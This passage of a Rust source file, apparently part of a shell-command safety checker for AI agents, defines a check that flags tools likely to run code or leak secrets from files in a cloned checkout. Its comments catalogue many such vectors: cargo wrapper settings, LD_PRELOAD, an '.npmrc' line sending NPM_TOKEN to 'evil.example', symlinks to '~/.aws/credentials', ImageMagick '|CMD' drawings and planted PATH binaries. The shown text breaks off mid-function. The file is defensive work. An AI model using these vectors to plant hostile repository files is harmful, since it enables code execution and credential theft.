//! `workspace-code`: a program that takes what it runs from a file of the checkout.

use std::borrow::Cow;
use std::path::{Path, PathBuf};

use super::common::{ask, prog, text};
use super::workdir::DirRef;
use super::{Check, CheckCtx, Finding, declare_check};
use crate::analyze::Unit;
use crate::decision::Risk;
use crate::files::resolve;

declare_check! {
    /// **What it flags**: a program whose even read-only verbs run a program or code named by a
    /// file in the directory it runs in or a parent: inside the workspace, the parents up to its
    /// root; outside it (`cd /tmp/clone/sub && cargo metadata`), every parent below the home
    /// (the home's files are the person's, those above it the system's):
    /// - cargo and the other rustup proxies with a `.cargo/config.toml` (or `.cargo/config`,
    ///   or a file either includes: `include = ["other.toml"]`) naming a program (`build.rustc-wrapper`, `build.rustc`, `build.rustdoc`, a target
    ///   `runner` or `linker`, a credential provider, an alias of the subcommand, an `[env]`
    ///   entry that changes what rustc runs or loads (`LD_PRELOAD`, `PATH`, `RUSTUP_TOOLCHAIN`:
    ///   cargo applies `[env]` to the rustc that learns the target), `rustflags`
    ///   loading a library into rustc, `-Z codegen-backend=./x.so`, writing a file,
    ///   `--print=cfg=PATH`, or reading more flags from one, `@FILE`), a `build.target` that
    ///   is not a built-in target (a specification file whose codegen backend rustc loads), or a
    ///   `rust-toolchain.toml` with a toolchain `path`;
    /// - npm, pnpm and yarn (and `--version` of each) with a `package.json` whose
    ///   `packageManager` is not a release by its version (`yarn@https://…`, `pnpm@file:…`):
    ///   corepack, whose shims they often are, runs the release it names; or with a
    ///   `.corepack.env` there, whose `COREPACK_*` variables (the registry, the integrity keys)
    ///   corepack takes;
    /// - yarn with `yarnPath` or `plugins` in `.yarnrc.yml` (or `yarn-path` or `yarnPath` in
    ///   `.yarnrc`), or
    ///   with a `package.json` script named like its command (`yarn list` runs a script `list`
    ///   on yarn 2 and later, which have no `list` of their own);
    /// - gdb with a `.gdbinit` in the directory it starts in (unless `-nx`), and a command run
    ///   under valgrind with a `.valgrindrc` there (options: `--log-file` writes any file);
    /// - bazel and bazelisk with a `tools/bazel` wrapper;
    /// - `python -m MOD` with `MOD.py` or `MOD/` in the directory (the working directory comes
    ///   first on `sys.path`), or with a module there named like a standard library one
    ///   (`optparse.py`, `logging/__init__.py`, `typing.pyc`, an extension `.so`), which MOD or
    ///   Python imports instead of the library's; likewise `python -c` one-liners read as
    ///   only printing that import `platform` (`platform.py`, `platform/`, or a module named
    ///   like a standard library one there);
    /// - tox with an inline plugin (`toxfile.py`), imported even for `--version`; Leiningen
    ///   with a `project.clj` (Clojure it evaluates first) or a `.lein-classpath`;
    /// - rails with `bin/rails`; Maven with a `.mvn` directory (`jvm.config`, the JVM options
    ///   its launcher starts with, even for `--version`; `maven.config`, options read before
    ///   `--version` is acted on; `extensions.xml`); terraform verbs that load
    ///   provider plugins with a `.terraform/` directory; poetry with project plugins
    ///   (`.poetry/plugins/`, or `[tool.poetry.requires-plugins]` in `pyproject.toml`, which
    ///   poetry installs there and loads before it reads its options);
    /// - dotnet with a `global.json` that names SDK `paths` (.NET 10);
    /// - pnpm (any command but `--version`) with a `.pnpmfile.cjs`, or a `pnpmfile` or
    ///   `configDependencies` setting in `pnpm-workspace.yaml` (or `.npmrc`); or in a project
    ///   that asks for a pnpm release (`packageManager`, `devEngines.packageManager`), which
    ///   pnpm downloads and runs, while `.npmrc` or `pnpm-workspace.yaml` names the registry it
    ///   comes from;
    /// - uv's and poetry's verbs that look at the project's environment (`uv pip list`,
    ///   `poetry show`) with a `.venv` in the checkout, or an interpreter or environment
    ///   named by the project's configuration (uv's `pip.python` in `uv.toml` or
    ///   `[tool.uv.pip]`; `virtualenvs.path` in `poetry.toml`): they run its interpreter;
    /// - uv's verbs that look for an interpreter (`uv python find`, `uv pip list`) with a
    ///   `.python-version` (`.python-versions`) in the directory or a parent that holds more
    ///   than version requests: a path (`./tools/py`), a directory or a program name, which uv
    ///   runs to learn about it;
    /// - packer (any command, `packer version` included) with a `packer-plugin-*` in the
    ///   directory it runs in: Packer before 1.11 starts the plugins it finds there;
    /// - npm with a project `.npmrc` naming a program it runs (`browser`, `viewer`, `editor`,
    ///   `shell`, `script-shell`, `git`), code node loads (`node-options`, `init-module`), or
    ///   another file npm reads as configuration (`userconfig`, `globalconfig`, `prefix`);
    /// - npm, pnpm, bun and yarn with a project rc file (`.npmrc`; pnpm's
    ///   `pnpm-workspace.yaml`; `bunfig.toml`; `.yarnrc`, `.yarnrc.yml`) that expands an environment variable into a value
    ///   (`//evil.example/:_authToken=${NPM_TOKEN}`), sends the registry requests through a
    ///   proxy, without TLS checks or trusting a certificate authority it names
    ///   (`https-proxy`, `strict-ssl`, `cafile`), or names another configuration file
    ///   (`userconfig=./u`, whose settings npm takes): `npm view` sends the secret to that host;
    /// - Miller (`mlr`) with a `.mlrrc` in the directory it runs in, whose lines are main
    ///   flags (`I`: edit the files in place; `prepipe-gunzip`: file names through a shell);
    /// - Compose (`docker compose`, `podman compose`, `docker-compose`; all verbs but `version`
    ///   and `ls`) with a project file (the default names, `-f`, `COMPOSE_FILE` in `.env`, and
    ///   the local files they include) that `include`s or `extends` a remote resource (a git
    ///   repository, `oci://`) or an address made from the environment: Compose fetches it
    ///   while the project loads, the person's variables in the address; or with `-f` naming
    ///   a remote resource itself (`-f oci://…`);
    /// - pulumi (but `version` and help) with a `Pulumi.yaml` naming the `backend`: logging
    ///   in sends the person's `PULUMI_ACCESS_TOKEN` to that URL;
    /// - shellcheck that both follows `source` to any file (`-x`, `external-sources=true`) and
    ///   reports on sourced files (`-a`, `check-sourced=true`), from the line or its rc file:
    ///   the lines of a file a script sources (`~/.env`) are printed with the findings;
    /// - a program that reads the project's files by name (cargo, npm, go, linters and
    ///   formatters…) where a file of the directory or a parent in the workspace, not named like
    ///   a secret, is a symbolic link to one (`Cargo.toml` → `~/.aws/credentials`): the parse
    ///   error quotes it; also in the project the line names (npm's `--prefix DIR` and folder
    ///   specs, `npm view ./pkg`; the directory of cargo's `--manifest-path`, whose `Cargo.lock`
    ///   cargo reads; the directories of the files clang-format, clang-tidy, rustfmt,
    ///   shellcheck, typos, pycodestyle and pydocstyle check, where each looks for its
    ///   configuration); and DVC's `.dvc/config` (`.dvc/config.local`) linked to one;
    /// - a checkout that gives a registry or package-source name an address of its own, where
    ///   the person's credentials are looked up by that name: cargo with `[registries.NAME]
    ///   index`, `registry.default`, `registry.index` or a `[source.NAME]` registry in
    ///   `.cargo/config.toml`; `poetry show --outdated`/`--latest` with a
    ///   `[[tool.poetry.source]]`; `uv pip list --outdated` with a named index
    ///   (`[[tool.uv.index]]`, `[[index]]` in `uv.toml`);
    /// - cargo with a `.cargo/config.toml` whose `[http]` names a proxy or a certificate
    ///   authority (`proxy`, `cainfo`, `proxy-cainfo`, `check-revoke`): the requests, the
    ///   registry token of `cargo owner` included, go where the checkout chooses;
    /// - codespell with a `.codespellrc`, `setup.cfg` or `pyproject.toml` whose codespell
    ///   section turns on `write-changes` or `interactive` (codespell then rewrites files);
    /// - helm given a chart directory of the checkout (`helm template ./chart`, `helm lint`)
    ///   holding a symbolic link to a secret anywhere below it: helm's loader follows links,
    ///   and a template prints the file (`.Files.Get`);
    /// - perldoc in a Perl distribution (`Makefile.PL`, `Build.PL`), which looks for modules in
    ///   `.`, `lib` and `blib` first, where a file it would find is a link to a secret (`perldoc
    ///   -m Foo` with `lib/Foo.pm` → `~/.aws/credentials` prints it);
    /// - a program that prints files it picks by names of its own from a directory the line
    ///   names, holding a symbolic link to a secret anywhere below it: dpkg and dpkg-query with
    ///   `--admindir` or `--root` (`-L` prints `info/PKG.list`), info with `-d`, fortune given a
    ///   directory, sdcv with `--data-dir`, pw-config with `--prefix`, lsblk, lscpu and lsmem
    ///   with `--sysroot`, systemctl and systemd-analyze with `--root`, postconf with `-c`
    ///   (`main.cf` and `master.cf` there; a line it cannot use is printed in a warning, a
    ///   setting as a parameter) (the system's own places,
    ///   `/` and `/usr`, are not looked into; a directory named at run time counts as holding
    ///   such a link);
    /// - ffprobe, gst-discoverer-1.0, mediainfo and timg (its libav reader) given a file of the
    ///   checkout that is a playlist or stream description (HLS `#EXTM3U`, DASH `<MPD`, SDP, ffconcat; for
    ///   mediainfo any XML document, its reference-file formats: DASH, Smooth Streaming, HDS,
    ///   DCP and IMF packages): the demuxer fetches the URLs it names;
    /// - `pio` (`platformio`) with a `platformio.ini` in the directory that moves its core,
    ///   platforms or packages directory (`core_dir`: `pio boards` imports each platform's
    ///   `platform.py` from there) or names `extra_configs` (any file read as INI, quoted in
    ///   the parse error);
    /// - `SoX` (`soxi`, `sox`, `play`) given a playlist of the checkout (`.m3u`, `.pls`) with a
    ///   `|command` or URL entry: each entry is opened like a file name of the line, the
    ///   command through `popen()`, the URL with wget run by a shell;
    /// - `apptainer inspect` and `run-help` (and singularity's) given an image that exists or
    ///   that the line writes: a single-file image without readable SIF inspect metadata is
    ///   inspected through `apptainer exec IMAGE /bin/sh`, a sandbox directory's files are
    ///   read through links;
    /// - `ImageMagick` readers (`identify`, `magick`, `zbarimg`, chafa built with
    ///   `MagickWand`, timg through `GraphicsMagick`…) given a file of the checkout
    ///   that is an MVG drawing (by content, `viewbox`, or by name), an MSL script, or an SVG
    ///   naming another file or declaring an entity: the drawing reads the files it names
    ///   (`'|CMD'` runs CMD), the script writes files;
    /// - Node CLIs that import a JavaScript configuration before they read their options,
    ///   `--version` included: sequelize with a `.sequelizerc` (or `--options-path`), AVA with
    ///   an `ava.config.*` or the project's own `node_modules/ava`, prisma with a
    ///   `prisma.config.ts`;
    /// - yamllint whose configuration (`.yamllint`, `-c FILE`, `-d TEXT`, or one given at run
    ///   time) `extends` a secret or names one in `ignore-from-file`, yara given a rules file
    ///   that `include`s one, and gixy given an nginx configuration
    ///   of the checkout that `include`s one: each parses the secret as configuration and
    ///   quotes it in the error; ninja (its `-t` tools) with a build file (`build.ninja` where
    ///   it runs, after `-C DIR`) that `include`s or `subninja`s a secret, directly or through
    ///   the build files it includes, or a path built from variables: a `.env` line is a
    ///   variable binding that `-t commands` prints where a rule names it;
    /// - `scons -h` (any command but `-H` and `--version`) with an `SConstruct`, and `vagrant`
    ///   (any command but `--version`, `-h` included) with a `Vagrantfile` or project plugins
    ///   (`.vagrant/plugins`): both run that code to build the help they print;
    /// - hledger with a `hledger.conf` in the directory or a parent: its lines are options
    ///   (`-o FILE` writes the report anywhere); and a journal it reads (`-f`, a CSV file's
    ///   rules) that `include`s a secret, directly or through the journals it includes: the
    ///   parse error quotes the secret's line;
    /// - flex given a scanner whose `%option` lines name files it writes (`header-file=`,
    ///   `tables-file`), also with `-t`, or a scanner it reads from a pipe;
    /// - pylint with a configuration (`.pylintrc`, `pyproject.toml`, `setup.cfg`…) naming an
    ///   `init-hook` or `load-plugins`, and flake8 with `[flake8:local-plugins]`: both run that
    ///   code while they read their options, `--help` (and flake8's `--version`) included;
    ///   flake8 and pycodestyle with a `filename` in their section (`[flake8]` of `.flake8`,
    ///   `setup.cfg`, `tox.ini`; `[pycodestyle]`, `[pep8]`) beyond the Python sources' patterns
    ///   (`*`, `.e*`): they read every file it matches, `.env` included, and print its lines
    ///   (`show-source`);
    /// - jekyll (and bridgetown) with a `Gemfile` in the directory, which Bundler evaluates at
    ///   start; rspec with a `.rspec` or `.rspec-local` holding ERB (`<%= … %>`), evaluated
    ///   before `--version` or `--help` is acted on;
    /// - any program looked up on `PATH` where a `.tool-versions` (or a tool's own version
    ///   file, `.nvmrc`, `.python-version`…, which mise and asdf can read) gives a tool a `path:`
    ///   version, or a mise configuration (`mise.toml`…) names one, puts a directory on `PATH`
    ///   (`_.path`), sources a script or has hooks: an asdf or mise shim, named like the
    ///   program, runs the program or script of the checkout;
    /// - tflint with a `.tflint.d` directory or a `plugin_dir` in `.tflint.hcl` (it starts the
    ///   plugins there even for `--version`); rebar3 with a `rebar.config.script` or plugins in
    ///   `rebar.config` (evaluated and loaded before the command is parsed); terragrunt with a
    ///   `terragrunt.hcl` (before 0.73 `terragrunt version` is terraform's, run after the file
    ///   is evaluated: `run_cmd()` runs commands);
    /// - any program bash finds on `PATH` in a directory of the checkout, or in a relative
    ///   `PATH` entry (`.`, an empty entry, `bin`), before any other directory: an activated
    ///   virtual environment (`.venv/bin` first on `PATH`: `pip list` runs `.venv/bin/pip`, a
    ///   script of the checkout, and a venv's interpreter loads the checkout's site-packages),
    ///   direnv's `PATH_add bin`, `node_modules/.bin`. `PATH` is the one shclass runs with,
    ///   which the agent's shell inherits; a file the line writes there first counts as found;
    /// - likewise a program that another one starts by name through `PATH`
    ///   ([`crate::programs::path_helpers`], by program, whatever its options): the
    ///   decompressors of tar (which picks one by the archive's suffix or content), `rg -z`,
    ///   `file -z`, bsdtar, dpkg-deb (and its `tar`), zcat and the gzip and xz scripts (`zgrep`, `zless`, `xzgrep`…, with their
    ///   `grep`, `sed`, `diff`, `less`); the pager (`pager`, `less`, `more`) of git, man,
    ///   perldoc, pydoc, psql, bat, aws, dpkg, dmesg, nmcli and systemd's tools (`journalctl`,
    ///   `systemctl`…); git's `ssh`, `gpg`, `gpgsm` and `ssh-keygen`; man-db's formatters
    ///   (`groff`, `nroff`, `tbl`, `preconv`, `col`…); less's `lesspipe` (`LESSOPEN`) and what
    ///   it runs; zipgrep's `unzip`; the `ssh` of scp, sftp and rsync; the `node` that the
    ///   `#!/usr/bin/env node` launchers of npm, yarn, pnpm, tsc, eslint… run. `tar -tzf x.tgz` with
    ///   `bin` first on `PATH` and a `bin/gzip` in the checkout runs that file;
    /// - any program, where shclass's environment (which the agent's shell inherits) names a
    ///   directory or file of the checkout in a variable the dynamic loader or bash reads at
    ///   start (`LD_PRELOAD`, `LD_AUDIT`, `GCONV_PATH`), and an
    ///   interpreter or git where one of theirs does (`PYTHONPATH=src`, `NODE_PATH`,
    ///   `PERL5LIB`, `RUBYLIB`, `GIT_EXEC_PATH`, `GIT_CONFIG_GLOBAL`…): `python3 -m json.tool`
    ///   imports a `src/json.py` the agent wrote.
    ///
    /// **Why it is risky**: the checkout is not the person's: a cloned repository (or the agent)
    /// can put a wrapper there, and `cargo metadata`, `yarn --version` or `python -m pip list`
    /// then run it. Git, direnv and Claude Code's workspace trust refuse the same thing.
    ///
    /// **Example**: with `build.rustc-wrapper = "./x"` in `.cargo/config.toml`, `cargo tree` →
    /// ask (high). Not flagged: the same command in a checkout without such a file.
    ///
    /// A file the line itself writes (`cp x pip.py && python3 -m pip list`) is not on disk when
    /// the check looks; it counts as present, with content that runs code.
    ///
    /// The directory a unit runs in is followed as bash moves: a `cd` to a target that is no
    /// directory fails and leaves the shell where it was (`cd /nonexistent; cargo tree` runs
    /// in the checkout), `cd -`, `cd ~-` and `cd "$OLDPWD"` go back, `pushd -n` stays, `popd`
    /// returns to the line's own `pushd`; a directory the line does not show (`cd -` before
    /// any `cd` of the line, a `popd` past its `pushd`s, a stack entry `~1`/`+1`, a glob
    /// `cd /tmp/x*`) counts as holding every file looked for, with content that runs code.
    ///
    /// **Known gaps**: a shell whose `PATH` differs from shclass's (set in its start-up files)
    /// is not seen, nor a `PATH` directory outside the checkout that is a link into it; a
    /// program file outside the checkout that loads code from it (an editable install's
    /// launcher) is not followed (such programs have no rule that allows them); only the files
    /// listed here are read; an `include` or `extends` is judged
    /// by the path it names (a secret not named like one is not seen); a file that cannot be
    /// read as TOML is flagged; files above the workspace (the person's own) are trusted, and so are the home's and those above it for a program run outside the workspace; a directory
    /// entered by a script is not seen; a write whose target is known only at run time is left
    /// to the write checks (it asks by itself).
    WorkspaceCode,
    "workspace-code"
}

impl Check for WorkspaceCode {
    fn run(&self, cx: &CheckCtx, out: &mut Vec<Finding>) {
        let written = LineWrites::new(cx);
        for (i, (u, dir)) in cx.analysis.units.iter().zip(&written.dirs).enumerate() {
            let Some(dir) = dir else { continue };
            let also = written.also.get(i).map_or(&[][..], Vec::as_slice);
            if let Some(why) = std::iter::once(&**dir)
                .chain(also.iter().map(PathBuf::as_path))
                .find_map(|d| {
                    let why = reads_code(u, d, cx, &written)?;
                    Some(if d.starts_with(UNKNOWN_DIR) {
                        format!(
                            "runs in a directory the line does not show (`cd -`, `popd`, a directory stack entry, a glob, a run-time target), whose files may make it run code: {}",
                            why.replace(UNKNOWN_DIR, "…")
                        )
                    } else {
                        why
                    })
                })
            {
                out.push(ask(Some(i), u.span, Risk::High, why));
            }
        }
    }
}

/// Where each unit runs (`None` for a `cd`, which changes it), and the files the line's own
/// units write (redirects, `tee`, `cp`, `sed -i`…), each resolved from the directory its unit
/// runs in. The check looks at the checkout before the line runs; a file the line writes is not
/// there yet, so what it will hold is unknown: it counts as present with the content that runs
/// code (`cp x pip.py && python3 -m pip list`). The write targets are the check context's,
/// worked out once for every check of the line.
struct LineWrites<'a> {
    /// The check's context: the line's units and their write targets.
    cx: &'a CheckCtx<'a>,
    dirs: Vec<Option<Cow<'a, Path>>>,
    /// The other directories each unit may run in: the one a `cd` to a directory that does
    /// not exist leaves it in, or one of a directory stack's entries ([`UNKNOWN_DIR`] for a
    /// directory the line does not show: `cd -` as the first `cd`, a `popd` past the line's
    /// own `pushd`s, a glob).
    also: Vec<Vec<PathBuf>>,
    /// Each path the line writes, with the index of the unit that writes it.
    paths: std::cell::OnceCell<Vec<(usize, PathBuf)>>,
    /// The version file found for each directory looked at on this line, when no batch memo
    /// keeps it ([`version_selected_by_path`]): the units of one line share a directory.
    version_files: std::cell::RefCell<Vec<(PathBuf, Option<PathBuf>)>>,
}

impl<'a> LineWrites<'a> {
    fn new(cx: &'a CheckCtx<'a>) -> LineWrites<'a> {
        let line = cx.dirs();
        let mut dirs = Vec::with_capacity(cx.analysis.units.len());
        let mut also = Vec::with_capacity(cx.analysis.units.len());
        for (i, u) in cx.analysis.units.iter().enumerate() {
            if prog(u).is_some_and(crate::programs::is_directory_change) {
                dirs.push(None);
                also.push(Vec::new());
                continue;
            }
            // A directory known only at run time (the top of the repository included) is one
            // where every file looked for is present.
            let mut all = line.of(i).iter().map(|d| match d {
                DirRef::At(p) => Cow::Borrowed(p),
                DirRef::RepoTop | DirRef::Unknown(_) => Cow::Owned(PathBuf::from(UNKNOWN_DIR)),
            });
            dirs.push(all.next());
            also.push(all.map(Cow::into_owned).collect());
        }
        LineWrites {
            cx,
            dirs,
            also,
            paths: std::cell::OnceCell::new(),
            version_files: std::cell::RefCell::new(Vec::new()),
        }
    }

    /// Whether a unit before `u` writes `p` (or below it): a file written by `u` itself is
    /// not there yet when `u` starts.
    fn has_before(&self, p: &Path, u: &Unit) -> bool {
        let at = self
            .cx
            .analysis
            .units
            .iter()
            .position(|x| std::ptr::eq(x, u))
            .unwrap_or(usize::MAX);
        self.paths()
            .iter()
            .any(|(i, w)| *i < at && (w.starts_with(p) || p.starts_with(w)))
    }

    /// The line writes `p`, or a file under it (which makes the directory too), or a
    /// directory above it: a directory copied, moved or linked there (`mv x .cargo`, `cp -r x
    /// .mvn`, `ln -s x .poetry`) holds whatever its source holds.
    fn has(&self, p: &Path) -> bool {
        p.starts_with(UNKNOWN_DIR)
            || self
                .paths()
                .iter()
                .any(|(_, w)| w.starts_with(p) || p.starts_with(w))
    }

    /// Every path the line writes, with the index of the unit that writes it.
    fn paths(&self) -> &[(usize, PathBuf)] {
        self.paths.get_or_init(|| {
            self.dirs
                .iter()
                .enumerate()
                .filter_map(|(i, dir)| Some((i, dir.as_ref()?)))
                .flat_map(|(i, dir)| {
                    self.cx.write_targets(i).iter().map(move |t| {
                        (i, crate::files::resolve_links_under(t, dir, self.cx.look).0)
                    })
                })
                .collect()
        })
    }
}

/// A directory the line does not show (`cd -` before any `cd` of the line, a `popd` past its
/// own `pushd`s, a glob): every file looked for in it counts as present, with content that
/// runs code, as a file the line writes does. No file system has this path.
const UNKNOWN_DIR: &str = "/\u{0}unknown directory";

impl LineWrites<'_> {
    /// A file the line writes in `dir` (or a package's `__init__.py` under it) that Python
    /// would import as a module `is_module` accepts.
    fn written_module(&self, dir: &Path, is_module: &dyn Fn(&str) -> bool) -> Option<PathBuf> {
        self.paths().iter().find_map(|(_, p)| {
            let name = p.file_name()?.to_str()?;
            let parent = p.parent()?;
            let hit = if parent == dir {
                module_name(name).is_some_and(is_module)
            } else {
                name == "__init__.py"
                    && parent.parent() == Some(dir)
                    && parent.file_name()?.to_str().is_some_and(is_module)
            };
            hit.then(|| p.clone())
        })
    }
}

/// The directories a program run in `dir` reads its project files from: `dir` and its
/// parents, down to the workspace `root` (inclusive) when `dir` is inside it. Outside it, `dir`
/// and every parent that is neither the home nor above it: `cd /tmp/x/sub && cargo metadata`
/// reads `/tmp/x/.cargo/config.toml`, and a clone outside the checkout (or a directory anyone
/// may write, `/tmp`) is no more trusted than the checkout. The home's own files are the
/// person's, and the directories above it the system's.
fn project_dirs<'a>(dir: &'a Path, root: &'a Path) -> impl Iterator<Item = &'a Path> {
    let inside = dir.starts_with(root);
    let home = (!inside).then(crate::files::home);
    dir.ancestors()
        .enumerate()
        .take_while(move |(k, d)| {
            *k == 0
                || match &home {
                    None => d.starts_with(root),
                    Some(home) => !home.starts_with(d),
                }
        })
        .map(|(_, d)| d)
}

crate::programs::name_set! {
    /// Programs that read files of the project by name from the directory they run in (or a
    /// parent): manifests, lock files, their settings. A parse error in one of them prints the
    /// offending line (TOML, YAML and JSON readers quote it).
    fn is_project_reader, PROJECT_READERS = [
        "cargo",
        "rustfmt",
        "cargo-fmt",
        "rustc",
        "rustup",
        "typos",
        "stylua",
        "clang-format",
        "clang-tidy",
        "shellcheck",
        "yamllint",
        "pycodestyle",
        "pydocstyle",
        "dvc",
        "hadolint",
        "black",
        "ruff",
        "isort",
        "mypy",
        "flake8",
        "pylint",
        "codespell",
        "npm",
        "pnpm",
        "yarn",
        "bun",
        "deno",
        "go",
        "gofmt",
        "terraform",
        "tflint",
        "helm",
        "poetry",
        "uv",
        "pip",
        "pip3",
        "composer",
        "bundle",
        "dotnet",
        "mvn",
        "gradle",
        "tokei",
        "eslint",
        "prettier",
        "biome",
        "taplo",
    ]
}

/// A symbolic link among the files of `dir` and its parents inside the workspace that leads to
/// a secret while its own name is not one (`Cargo.toml` → `~/.aws/credentials`): a checkout
/// can commit such a link, and the program reads the secret as its project file and quotes
/// it in the error. A link named like a secret (`.env` → `.env.local`) is read as a secret
/// already, and project readers do not read it.
fn secret_link(dir: &Path, root: &Path, memo: Option<&super::WorkspaceMemo>) -> Option<PathBuf> {
    let in_dir = |d: &Path| {
        std::fs::read_dir(d).ok()?.flatten().find_map(|e| {
            // The listing says which entries are links: only those are looked at further.
            // An entry whose type the listing cannot say is looked at like a link.
            if !e.file_type().map_or(true, |t| t.is_symlink()) {
                return None;
            }
            let link = e.path();
            if crate::files::is_secret(&link) {
                return None;
            }
            let target = std::fs::canonicalize(&link).ok()?;
            (crate::files::is_secret(&target) || crate::files::is_secret_dir(&target))
                .then_some(link)
        })
    };
    project_dirs(dir, root).find_map(|d| match memo {
        Some(memo) => memo.secret_link_in(d, in_dir),
        None => in_dir(d),
    })
}

/// A configuration file a project reader reads from a directory of the project below its own
/// (`.dvc/config`, `.dvc/config.local`: configobj's parse error quotes the line it cannot read)
/// that is a symbolic link to a secret, in `dir` or a parent inside the workspace. The entries
/// of the project directories themselves are [`secret_link`]'s.
fn nested_secret_link(base: &str, dir: &Path, root: &Path) -> Option<PathBuf> {
    let files: &[&str] = match base {
        "dvc" => &[".dvc/config", ".dvc/config.local"],
        _ => return None,
    };
    project_dirs(dir, root).find_map(|d| {
        files.iter().map(|f| d.join(f)).find(|f| {
            std::fs::symlink_metadata(f).is_ok_and(|m| m.file_type().is_symlink())
                && std::fs::canonicalize(f)
                    .is_ok_and(|t| crate::files::is_secret(&t) || crate::files::is_secret_dir(&t))
        })
    })
}

/// The project directories a project reader is moved to by the line, besides the one it runs
/// in: npm's `--prefix DIR` (`-C DIR`) and the folders its read verbs are given as package specs
/// (`npm view ./pkg`, `file:../pkg`), whose `package.json` npm reads; the directory of cargo's
/// `--manifest-path`, whose `Cargo.lock` (and workspace) cargo reads with the manifest; the
/// directories of the files clang-format, clang-tidy, rustfmt, shellcheck and typos are given,
/// from which each looks for its configuration upward.
fn moved_project_dirs(base: &str, u: &Unit, dir: &Path, cx: &CheckCtx) -> Vec<PathBuf> {
    let words: Vec<&str> = u.args().map(text).collect();
    let mut named: Vec<&str> = Vec::new();
    let mut k = 0;
    while k < words.len() {
        let a = words[k];
        match base {
            "npm" => {
                if matches!(a, "--prefix" | "-C") {
                    named.extend(words.get(k + 1));
                    k += 1;
                } else if let Some(v) = a.strip_prefix("--prefix=") {
                    named.push(v);
                } else if let Some(v) = a.strip_prefix("file:") {
                    named.push(v);
                } else if a.starts_with("./") || a.starts_with("../") || a.starts_with('/') {
                    named.push(a);
                }
            }
            "cargo" => {
                let manifest = if a == "--manifest-path" {
                    k += 1;
                    words.get(k).copied()
                } else {
                    a.strip_prefix("--manifest-path=")
                };
                if let Some(m) = manifest {
                    named.push(
                        m.rsplit_once('/')
                            .map_or(".", |(d, _)| if d.is_empty() { "/" } else { d }),
                    );
                }
            }
            // They look for their configuration from each file's directory upward
            // (`.clang-format`, `.clang-tidy`, `rustfmt.toml`, `.shellcheckrc`, `_typos.toml`;
            // pycodestyle's and pydocstyle's `setup.cfg` and `tox.ini`, whose INI parse error
            // quotes the first line that is not INI).
            "clang-format" | "clang-tidy" | "rustfmt" | "shellcheck" | "typos" | "pycodestyle"
            | "pydocstyle"
                if !a.starts_with('-') =>
            {
                let parent = a
                    .rsplit_once('/')
                    .map(|(d, _)| if d.is_empty() { "/" } else { d });
                named.push(a);
                named.extend(parent);
            }
            // clang-format looks for the configuration of standard input (or of the files)
            // from the directory of `--assume-filename` (`-assume-filename=F`; the separate
            // word is read as a file above).
            "clang-format" | "clang-tidy" => {
                if let Some(f) = a
                    .strip_prefix("--assume-filename=")
                    .or_else(|| a.strip_prefix("-assume-filename="))
                {
                    named.push(f);
                    named.extend(
                        f.rsplit_once('/')
                            .map(|(d, _)| if d.is_empty() { "/" } else { d }),
                    );
                }
            }
            _ => {}
        }
        k += 1;
    }
    named
        .into_iter()
        .filter(|t| !t.is_empty() && !t.contains(['$', '`']))
        .map(|t| crate::files::resolve_links_under(t, dir, cx.look).0)
        .filter(|d| d != dir && cx.look.is_dir(d))
        .collect()
}

/// Why the unit, run in `dir`, would run code from the checkout.
fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<String> {
    let root = cx.cwd;
    let p = prog(u)?;
    let base = p.rsplit('/').next().unwrap_or(p);
    if is_project_reader(base)
        && let Some(link) = secret_link(dir, root, cx.memo)
    {
        return Some(format!(
            "`{}` is a link to a secret: `{base}` reads the files of the project by name, and would read and may print it",
            link.display()
        ));
    }
    if let Some(link) = nested_secret_link(base, dir, root) {
        return Some(format!(
            "`{}` is a link to a secret: `{base}` reads it as its configuration, and its parse error quotes the line",
            link.display()
        ));
    }
    if is_project_reader(base)
        && let Some(link) = moved_project_dirs(base, u, dir, cx)
            .iter()
            .find_map(|d| secret_link(d, root, cx.memo))
    {
        return Some(format!(
            "`{}` is a link to a secret in the project the line names: `{base}` reads the files of that project by name, and would read and may print it",
            link.display()
        ));
    }
    // A program named with a directory part (`/usr/bin/python3`) is not looked up on `PATH`.
    if u.path.is_none()
        && !crate::programs::is_shell_builtin(base)
        && let Some(f) = found_in_checkout(base, u, dir, root, w, search_path())
    {
        return Some(match f {
            Found::File(f) => format!(
                "bash finds `{base}` on `PATH` at `{}`, a file of the checkout: what runs is whatever the checkout holds there",
                f.display()
            ),
            Found::Moved(entry) => format!(
                "`PATH` holds the relative entry `{}` and the line changes directory to one known only at run time: bash may find `{base}` in any directory",
                entry.display()
            ),
        });
    }
    if let Some((helper, f)) = helper_in_checkout(base, u, dir, root, w, search_path()) {
        return Some(match f {
            Found::File(f) => format!(
                "`{base}` runs `{helper}` by name, and bash's `PATH` finds it at `{}`, a file of the checkout: what runs is whatever the checkout holds there",
                f.display()
            ),
            Found::Moved(entry) => format!(
                "`PATH` holds the relative entry `{}` and the line changes directory to one known only at run time: `{base}` runs `{helper}` by name, which may be found in any directory",
                entry.display()
            ),
        });
    }
    if let Some((var, entry)) = environment_into_checkout(base, dir, root) {
        return Some(format!(
            "shclass's environment sets `{var}` to `{}`, in the checkout: `{base}` loads code from there",
            entry.display()
        ));
    }
    if u.path.is_none()
        && !crate::programs::is_shell_builtin(base)
        && let Some(f) = version_selected_by_path(u, dir, root, w, cx.memo)
    {
        return Some(format!(
            "`{}` selects a tool version by path or runs code of the checkout: a version manager's shim (asdf, mise) would run `{base}` from there",
            f.display()
        ));
    }
    // valgrind reads `./.valgrindrc` (the directory it starts in, a file its user owns) as
    // options: `--log-file` and `--xml-file` write anywhere, `--trace-children` follows
    // every program its command runs.
    if u.via.iter().any(|v| v == "valgrind") {
        let rc = dir.join(".valgrindrc");
        if w.has(&rc) || w.cx.look.is_file(&rc) {
            return Some(format!(
                "`{}` holds options valgrind reads at start (`--log-file` writes any file)",
                rc.display()
            ));
        }
    }
    if crate::programs::is_rustup_proxy(base) {
        for d in project_dirs(dir, root) {
            for name in ["rust-toolchain.toml", "rust-toolchain"] {
                let f = d.join(name);
                if w.has(&f)
                    || w.cx.look.is_file(&f)
                        && toml_has(&f, &|t| has_key(t, &["toolchain", "path"]))
                {
                    return Some(format!(
                        "`{}` names a toolchain by path: `{base}` would run the programs there",
                        f.display()
                    ));
                }
            }
            if base != "cargo" {
                continue;
            }
            let sub = u.args().map(text).find(|t| !t.starts_with(['-', '+']));
            for name in [".cargo/config.toml", ".cargo/config"] {
                let f = d.join(name);
                if w.has(&f)
                    || w.cx.look.is_file(&f)
                        && cargo_config_says(&f, w, &|t| cargo_config_runs(t, sub), 0)
                {
                    return Some(format!(
